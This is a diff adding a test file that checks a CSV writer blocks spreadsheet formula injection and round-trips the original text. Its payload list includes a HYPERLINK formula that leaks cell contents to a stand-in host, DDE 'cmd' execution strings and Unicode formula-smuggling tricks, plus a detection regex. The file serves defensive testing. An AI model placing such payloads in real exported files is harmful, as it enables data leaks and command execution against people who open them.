@@ -1,0 +1,84 @@
+"""No text that we write into a CSV file is a formula for a spreadsheet program, and our reader gets it back."""
+
+import csv
+import re
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from agentlearn.measure.observation import Observation
+from agentlearn_evals.formats import read_logs, write_observations
+from agentlearn_evals.formats.spreadsheet_cells import original_cell, spreadsheet_cell
+
+PAYLOADS = (
+    '=HYPERLINK("https://evil.test?x="&A1,"open")',
+    "=cmd|'/C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\u00a0=1+1",
+    "\u3000=1+1",
+    "\ufeff=1+1",
+    "\u200b=1+1",
+    "\uff1d1+1",  # full-width =
+    "\uff0b1",
+    "\uff0d1",
+    "\uff20SUM(1)",
+    "\u22121+1",  # the minus sign
+    "\u2a751",  # two = in one letter
+    "\u0600\ufe66SUM",  # a small = after an invisible letter
+    "-1.5",
+    "'=1+1",
+)
+
+
+def starts_a_formula(text: str) -> bool:
+    """Whether a spreadsheet program may take a cell for a formula; written without the code under test."""
+    return bool(re.match("[\t\r\n]|[\\s\u00ad\u200b-\u200f\u2060\ufeff]*[=+@\u2212\uff1d\uff0b\uff0d\uff20-]", text))
+
+
+@pytest.mark.parametrize("text", PAYLOADS)
+def test_a_formula_becomes_text(text: str) -> None:
+    cell = str(spreadsheet_cell(text))
+    assert cell == f"'{text}"
+    assert not starts_a_formula(cell)
+
+
+@given(st.text() | st.sampled_from(PAYLOADS))
+def test_every_text_comes_back_and_none_starts_a_formula(text: str) -> None:
+    cell = str(spreadsheet_cell(text))
+    assert original_cell(cell) == text
+    assert not starts_a_formula(cell)
+
+
+@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n \u00a0\uff1d\u2212\ufe63\u207aa1"), max_size=8))
+def test_signs_and_white_space_in_any_order_come_back(text: str) -> None:
+    cell = str(spreadsheet_cell(text))
+    assert original_cell(cell) == text
+    assert not starts_a_formula(cell)
+
+
+@pytest.mark.parametrize("value", [-1.5, -3, 0, 2.5e-7, None, "plain", "'quoted'", "a=b", "1-2", "[1]", ""])
+def test_numbers_and_ordinary_text_stay_as_they_are(value: object) -> None:
+    assert spreadsheet_cell(value) == value
+
+
+def test_a_written_file_holds_no_formula_and_reads_back(tmp_path: Path) -> None:
+    file = tmp_path / "runs.csv"
+    rows = [
+        Observation(arm=f"={arm}", task=f"task {at}", g=0, score=-0.5, problem=text.replace("\r", " "))
+        for arm in "ab"
+        for at, text in enumerate(PAYLOADS)
+    ]
+    write_observations(rows, file)
+    with file.open(newline="", encoding="utf-8") as text:
+        cells = list(csv.DictReader(text))
+    assert {one["score"] for one in cells} == {"-0.5"}
+    assert not [cell for one in cells for name, cell in one.items() if name != "score" and starts_a_formula(cell)]
+    assert read_logs([file]).observations == tuple(rows)
